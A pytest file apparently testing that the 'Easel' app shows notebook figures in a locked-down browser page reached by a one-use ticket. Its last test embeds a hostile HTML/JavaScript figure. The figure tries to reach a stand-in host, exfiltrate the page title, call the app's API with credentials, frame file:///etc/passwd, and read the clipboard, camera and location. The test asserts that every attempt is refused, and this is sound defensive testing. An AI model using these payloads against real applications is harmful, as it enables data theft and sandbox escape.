"""Figures in the user's browser: a key in Easel's real window asks the desktop to open an
address, and a real browser, without a network, shows the figure there. It can be used, and
gets nowhere, whoever made it."""

import json
import os
import pathlib
import signal
import socket
import subprocess
import threading
from urllib.parse import urlsplit

import pytest
from lab import FLAGS, PATIENCE, SHELL
from playwright.async_api import async_playwright, expect
from servers import BINARY, Easel, http, wait_until

DISPLAY = pathlib.Path(__file__).resolve().parents[2] / "scripts" / "display"
SAVED = pathlib.Path(__file__).parents[2] / "ui/core/render/browser/testdata"
NO_NETWORK = ["--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost", "--use-angle=swiftshader", "--enable-unsafe-swiftshader"]
HTML = "from IPython.display import HTML, display\ndisplay(HTML(%r))"

PLOTLY = "import plotly.express as px\npx.line(x=[1, 2, 3], y=[4, 1, 3], title='Sales by month').show()"
SURFACE = "import plotly.graph_objects as go\ngo.Figure(go.Surface(z=[[1, 2], [3, 5]])).update_layout(title='Slope').show()"
ALTAIR = (
    "import altair as alt, pandas as pd\nalt.renderers.enable(%r)\n"
    "alt.Chart(pd.DataFrame({'x': [1, 4712], 'y': [1, 2]}), title='Two bars').mark_bar().encode(x='x:N', y='y', tooltip=['x', 'y']).properties(width=400, height=300).interactive()"
)
BOKEH = "import bokeh.plotting as bp\nbp.output_notebook()\np = bp.figure(title='A line', active_scroll='wheel_zoom')\np.line([1, 4713], [1, 2])\nbp.show(p)"
HOLOVIEWS = "import holoviews as hv\nhv.extension('bokeh')\nhv.Curve([1, 2], 'day', 'sold').opts(title='A curve', active_tools=['wheel_zoom'])"
BUTTON = HTML % "<button onclick=\"this.textContent = 'pressed'\">press</button><script>document.body.append('made by a script')</script>"


class Desk(Easel):
    """An Easel with its window, on a desktop whose browser only notes what it is to open."""

    def launch(self):
        program = self.data.parent / "bin" / "xdg-open"
        program.parent.mkdir()
        self.asked = self.data.parent / "asked"
        self.asked.touch()
        program.write_text(f'#!/bin/sh\nprintf "%s\\n" "$1" >>"{self.asked}"\n')
        program.chmod(0o755)
        self.data.mkdir(parents=True, exist_ok=True)
        if not (self.data / "settings.json").exists():  # a new installation asks about code that uses the network
            (self.data / "settings.json").write_text(json.dumps({"access": "allow"}))
        self.socket = self.data.parent / "inspect"
        self.env |= {"PATH": f"{program.parent}:{os.environ['PATH']}", "EASEL_HEADLESS": "", "EASEL_INSPECT": str(self.socket)}
        with open(self.data.parent / "easel.log", "ab") as log:
            self.process = subprocess.Popen([DISPLAY, BINARY], env=self.env, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
        wait_until("Easel's window", self.ready)

    def ready(self) -> bool:
        assert self.process.poll() is None, (self.data.parent / "easel.log").read_text()
        try:
            return http("GET", self.url + "/api/health")[2]["window"] == "shown"
        except (OSError, ValueError, KeyError):
            return False

    def close(self) -> int:
        os.kill(self.runtime["pid"], signal.SIGTERM)  # not the display first
        return self.process.wait(180)

    def claim(self) -> dict:
        """What the window claims to show."""
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(str(self.socket))
            return json.loads(s.makefile().read())

    def key(self, name: str):
        environment = pathlib.Path(f"/proc/{self.runtime['pid']}/environ").read_bytes().split(b"\0")
        display = next(e.removeprefix(b"DISPLAY=").decode() for e in environment if e.startswith(b"DISPLAY="))
        subprocess.run(["xdotool", "key", name], env=self.env | {"DISPLAY": display}, check=True, stdin=subprocess.DEVNULL)

    def show(self, image: dict):
        """Shows an image in the viewer, and waits until it is there."""
        status, _, answer = self.execute("show_image_viewer", path=image["resource_uri"])
        assert status == 200, answer
        wait_until("the figure in the viewer", lambda: (c := self.claim())["settled"] and c["mode"] == "viewer" and c["current"] == image["image_id"])

    def open(self, image: dict) -> str:
        """Opens an image as its user would, and gives the address that the browser got."""
        self.show(image)
        before = self.asked.read_text()
        self.key("Return")
        return wait_until("an address for the browser", lambda: self.asked.read_text()[len(before) :].strip())

    def draw(self, session: str, code: str) -> dict:
        """Runs code, and gives its figure."""
        status, _, answer = self.execute("execute_code", session_id=session, code=code)
        assert status == 200 and answer["status"] == "ok", answer
        return answer["images"][-1]

    def newest(self, session: str) -> dict:
        return self.request("GET", f"/api/info/list_session_images?session_id={session}")[2]["images"][0]


@pytest.fixture(scope="module")
def desk(tmp_path_factory, jupyter):
    app = Desk.start(tmp_path_factory.mktemp("desk"), jupyter=jupyter)
    yield app
    assert app.close() == 0


@pytest.fixture(scope="module")
def session(desk):
    return desk.execute("session_create")[2]["session_id"]


@pytest.fixture(scope="module")
async def browser():
    async with async_playwright() as playwright:
        b = await playwright.chromium.launch(executable_path=SHELL, args=FLAGS + NO_NETWORK, timeout=PATIENCE)
        yield b
        await b.close()


class Visit:
    """A page, every request that it makes, and every other page that it opens."""

    def __init__(self, context, page):
        self.context, self.page, self.requests = context, page, []
        page.set_default_timeout(PATIENCE)
        page.on("request", lambda r: self.requests.append(r))
        page.on("console", lambda m: print("the page says:", m.text[:300]))  # pytest shows it with a failure
        page.on("pageerror", lambda e: print("the page fails:", str(e)[:300]))

    @property
    def figure(self):
        return self.page.frame_locator("iframe")

    async def evaluate(self, script: str):
        return await self.page.frames[1].evaluate(script)

    async def until(self, what: str, script: str):
        await self.page.frames[1].wait_for_function(script, timeout=PATIENCE)

    def only(self, address: str, token: str):
        """Nothing but the page itself came from anywhere, and it had no token."""
        [first, *rest] = self.requests
        assert first.url == address and "authorization" not in first.headers and "x-api-key" not in first.headers
        for r in rest:
            assert urlsplit(r.url).scheme in ("data", "blob") or r.failure, r.url
        for r in self.requests:
            assert token not in r.url


@pytest.fixture
async def visit(browser):
    context = await browser.new_context(viewport={"width": 900, "height": 600})
    yield Visit(context, await context.new_page())
    await context.close()


async def hover(v):
    await v.until("the plot", "document.querySelector('.js-plotly-plot .scatterlayer .point, .js-plotly-plot .scatterlayer path')")
    await v.figure.locator(".nsewdrag").first.hover(position={"x": 3, "y": 3})
    box = await v.figure.locator(".scatterlayer path.js-line").first.bounding_box()
    await v.page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] - 2)
    assert "Share chart..." not in await v.figure.locator(".modebar-btn").evaluate_all("all => all.map(b => b.dataset.title)")
    await expect(v.figure.locator(".hoverlayer .hovertext").first).to_contain_text("1")
    before = await v.evaluate("JSON.stringify(document.querySelector('.js-plotly-plot')._fullLayout.xaxis.range)")
    await v.page.mouse.wheel(0, -400)
    await v.until("a zoom", f"JSON.stringify(document.querySelector('.js-plotly-plot')._fullLayout.xaxis.range) !== {before!r}")


async def turn(v):
    camera = "JSON.stringify(document.querySelector('.js-plotly-plot')._fullLayout?.scene?._scene?.getCamera?.() ?? null)"
    await v.until("the scene", f"{camera} !== 'null'")
    before = await v.evaluate(camera)
    await v.page.mouse.move(600, 400)
    await v.page.mouse.down()
    await v.page.mouse.move(760, 470, steps=5)
    await v.page.mouse.up()
    await v.until("another view of it", f"{camera} !== {json.dumps(before)}")


async def tooltip(v):
    canvas = v.figure.locator("canvas")
    box = await canvas.bounding_box()
    for i in range(3):  # where it was, not under the tooltip that appears beside it
        await v.page.mouse.move(box["x"] + box["width"] - 110 - i, box["y"] + box["height"] - 110)
    await expect(v.figure.locator("#vg-tooltip-element.visible")).to_contain_text("4712")


async def wheel(v):
    start = "[...Bokeh.documents[0]?._all_models.values() ?? []].find(m => m.x_range)?.x_range.start ?? null"
    await v.until("the plot", f"window.Bokeh && Bokeh.documents[0]?.is_idle && ({start}) !== null")
    before = await v.evaluate(start)
    box = await v.figure.locator("canvas").first.bounding_box()
    await v.page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    await v.page.mouse.wheel(0, -400)
    await v.until("a zoom", f"({start}) !== {before}")


async def zoom_map(v):
    frame = v.figure.frame_locator("iframe")
    await frame.locator(".leaflet-control-zoom-in").click()
    await expect(frame.locator(".leaflet-interactive").first).to_be_attached()
    await expect(v.page.locator("#blocked")).to_be_visible()
    await v.page.locator("#blocked summary").click()
    await expect(v.page.locator("#hosts")).to_contain_text("tile.openstreetmap.org")
    assert await v.page.locator("#hosts li").count() == 1  # the pictures of markers are there


async def press(v):
    await v.figure.get_by_role("button").click()
    await expect(v.figure.locator("body")).to_contain_text("pressed")
    await expect(v.figure.locator("body")).to_contain_text("made by a script")


KINDS = [
    pytest.param(PLOTLY, "Sales by month", hover, id="plotly"),
    pytest.param(SURFACE, "Slope", turn, id="plotly-3d", marks=pytest.mark.nightly),
    pytest.param(ALTAIR % "mimetype", "Two bars", tooltip, id="altair"),
    pytest.param(ALTAIR % "html", "Two bars", tooltip, id="altair-html", marks=pytest.mark.nightly),
    pytest.param(BOKEH, "A line", wheel, id="bokeh"),
    pytest.param(HOLOVIEWS, "A curve", wheel, id="holoviews", marks=pytest.mark.nightly),
    pytest.param(HTML % (SAVED / "folium.html").read_text(), None, zoom_map, id="folium"),
    pytest.param(BUTTON, None, press, id="html"),
]


@pytest.mark.parametrize("code, title, use", KINDS)
async def test_a_figure_is_used_in_the_browser(desk, session, visit, code, title, use):
    address = desk.open(desk.draw(session, code))
    assert address.startswith(desk.url + "/figures/") and desk.token not in address
    answer = await visit.page.goto(address)
    assert answer.status == 200 and desk.token not in await answer.text()
    if title:
        await expect(visit.page.locator("h1")).to_have_text(title)
    await use(visit)
    visit.only(address, desk.token)
    # The ticket is used: neither a reload nor anybody else gets the figure again.
    assert (await visit.page.reload()).status == 410
    await expect(visit.page.locator("body")).to_contain_text("Open the figure in Easel again.")
    status, _, page = http("GET", address)
    assert status == 410 and title is None or title.encode() not in page


async def test_a_figure_that_fails_says_so(desk, session, visit):
    image = desk.draw(session, "from IPython.display import display\ndisplay({'application/vnd.vegalite.v5+json': {'mark': 7}}, raw=True)")
    await visit.page.goto(desk.open(image))
    await expect(visit.page.locator("#failed")).to_contain_text("The figure could not be shown: Cannot read")


async def test_a_video_is_no_plot(desk, session):
    status, _, run = desk.execute("execute_code", session_id=session, code="from IPython.display import Video\nVideo(b'x', embed=True, mimetype='video/webm')")
    assert status == 200 and run["status"] == "ok" and run["images"] == [], run


class Port:
    """A port of this machine that counts who reaches it, by TCP or UDP."""

    def __enter__(self):
        self.reached = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.number = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.number))
        self.threads = [threading.Thread(target=f, daemon=True) for f in (self.accept, self.receive)]
        for t in self.threads:
            t.start()
        return self

    def accept(self):
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            connection.settimeout(1)
            try:
                self.reached.append(connection.recv(200))
            except OSError:
                self.reached.append(b"a connection")
            connection.close()

    def receive(self):
        while data := self.udp.recvfrom(1500)[0]:
            self.reached.append(b"UDP " + data[:50])

    def __exit__(self, *_):
        self.tcp.shutdown(socket.SHUT_RDWR)
        self.tcp.close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"", ("127.0.0.1", self.number))
        for t in self.threads:
            t.join()
        self.udp.close()


# Every way out that a page has; each tells what came of it. EASEL and OTHER are addresses.
ATTACK = r"""<link rel="dns-prefetch" href="OTHER"><link rel="prefetch" href="OTHER/prefetch"><link rel="stylesheet" href="OTHER/style.css">
<link rel="modulepreload" href="OTHER/module.js"><base href="OTHER/base/">
<script type="speculationrules">{"prerender":[{"urls":["OTHER/prerender"]}],"prefetch":[{"urls":["OTHER/speculation"]}]}</script>
<img src="OTHER/img"><iframe src="OTHER/frame"></iframe><iframe src="EASEL/"></iframe><iframe src="file:///etc/passwd"></iframe><object data="OTHER/object"></object><embed src="OTHER/embed">
<video src="OTHER/video"></video><a id="link" href="OTHER/a" target="_blank" ping="OTHER/ping">x</a><a id="top" href="OTHER/top" target="_top">x</a>
<form id="form" action="OTHER/form" method="post" target="_top"><input name="a" value="b"></form>
<script>
const out = window.out = {};
const timeout = p => Promise.race([p, new Promise((_, no) => setTimeout(no, 3000))]);
const attempt = async (name, f) => { try { out[name] = String(await timeout(f())) } catch (e) { out[name] = "refused" } };
const loaded = (type, name, address) => new Promise((done, no) => { const e = document.createElement(type); e[name] = address; e.onload = () => done("loaded"); e.onerror = no; document.body.append(e) });
const inside = `<script>
  try { new WebSocket("OTHER/socket".replace("http", "ws")) } catch {} fetch("OTHER/inside").catch(() => {}); fetch("EASEL/api/health").catch(() => {});
  try { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "OTHER".slice(7) }] }); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)).catch(() => {}) } catch {}
  try { top.location = "OTHER/top" } catch {}
<\/script>`;
const leaving = `<meta http-equiv="refresh" content="1;url=OTHER/refresh"><script>location = "OTHER/self"<\/script>`;
(async () => {
  await attempt("read the api", async () => (await fetch("EASEL/api/health")).text());
  await attempt("read the api with credentials", async () => (await fetch("EASEL/api/resources/state", { credentials: "include", headers: { Authorization: "Bearer x" } })).status);
  await attempt("blind call", async () => (await fetch("EASEL/api/execute/session_create", { method: "POST", mode: "no-cors", body: "{}" })).type);
  await attempt("the page again", async () => (await fetch(parent.location.href)).text());
  await attempt("fetch", async () => (await fetch("OTHER/fetch", { mode: "no-cors" })).type);
  await attempt("request", () => new Promise((done, no) => { const x = new XMLHttpRequest(); x.open("GET", "OTHER/xhr"); x.onload = done; x.onerror = no; x.send() }));
  await attempt("events", () => new Promise((done, no) => { const s = new EventSource("EASEL/api/events"); s.onopen = () => done("open"); s.onerror = no }));
  await attempt("socket", () => new Promise((done, no) => { const s = new WebSocket("OTHER/ws".replace("http", "ws")); s.onopen = () => done("open"); s.onerror = no }));
  await attempt("script", () => loaded("script", "src", "EASEL/api/v1/openapi.json"));
  await attempt("picture", () => loaded("img", "src", "OTHER/image?" + document.title));
  await attempt("module", () => import("OTHER/module.js"));
  await attempt("worker", () => new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('OTHER/worker', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage(''))"]))); w.onmessage = e => e.data ? done(e.data) : no(); w.onerror = no }));
  await attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
  await attempt("cookie", () => { document.cookie = "a=b"; return document.cookie });
  await attempt("database", () => new Promise((done, no) => { const r = indexedDB.open("x"); r.onsuccess = () => done("open"); r.onerror = no }));
  await attempt("caches", () => caches.open("x"));
  await attempt("files", () => navigator.storage.getDirectory());
  await attempt("parent", () => parent.document.title);
  await attempt("its address", () => top.location.href);
  await attempt("opener", () => { if (!top.opener) throw 0; return top.opener });
  await attempt("window", () => { if (!window.open("OTHER/open")) throw 0; return "open" });
  await attempt("dialog", () => { if (!confirm("?")) throw 0; return "confirmed" });
  await attempt("clipboard", () => navigator.clipboard.readText());
  await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
  await attempt("place", () => new Promise((done, no) => navigator.geolocation.getCurrentPosition(done, no)));
  await attempt("top", () => { top.location.href = "OTHER/navigated"; return "navigated" });
  navigator.sendBeacon("OTHER/beacon", "x");
  document.getElementById("link").click(); document.getElementById("top").click(); document.getElementById("form").submit();
  await attempt("calls", () => new RTCPeerConnection());
  for (const source of [inside, leaving, "<!doctype html><iframe srcdoc='" + inside.replaceAll("'", "&#39;") + "'></iframe>"]) {
    const frame = document.createElement("iframe"); frame.srcdoc = source; document.body.append(frame);
  }
  const box = document.createElement("div"); document.body.append(box);
  box.attachShadow({ mode: "closed" }).innerHTML = "<iframe srcdoc='" + inside.replaceAll("'", "&#39;") + "'></iframe>";
  const data = document.createElement("iframe"); data.src = "data:text/html," + encodeURIComponent(inside); document.body.append(data);
  const blob = document.createElement("iframe"); blob.src = URL.createObjectURL(new Blob([inside], { type: "text/html" })); document.body.append(blob);
  setTimeout(() => { out.done = "yes" }, 3000);
})();
</script>"""


def sessions(desk):
    """The sessions without what changes by itself: the time of their last activity, which Easel may learn late from the server, and what
    their kernels use."""
    changing = {"last_activity", "memory_bytes", "cpu_percent", "gpu_memory_bytes"}
    return [{k: v for k, v in s.items() if k not in changing} for s in desk.request("GET", "/api/info/session_list")[2]["sessions"]]


async def test_a_hostile_figure_gets_nowhere(desk, session, visit):
    with Port() as other:
        page = ATTACK.replace("EASEL", desk.url).replace("OTHER", f"http://127.0.0.1:{other.number}")
        image = desk.draw(session, HTML % page)
        wait_until("Easel's own drawing of it, which is no subject here", lambda: desk.claim()["settled"])
        address = desk.open(image)
        before = sessions(desk)
        await visit.page.goto(address)
        await visit.until("all attempts", "window.out?.done")
        done = await visit.evaluate("window.out")
        await expect(visit.page.locator("#blocked")).to_be_visible()
    assert done == dict.fromkeys(done, "refused") | {"done": "yes"}
    assert visit.page.url == address and len(visit.context.pages) == 1
    # Chromium connects before it asks whether a frame may go there, and then sends nothing.
    # A kernel of another test may have had this port, and its server connects again: ZMTP begins with ff 00.
    assert [r for r in other.reached if r != b"a connection" and not r.startswith(b"\xff\x00\x00")] == []
    assert sessions(desk) == before
    visit.only(address, desk.token)
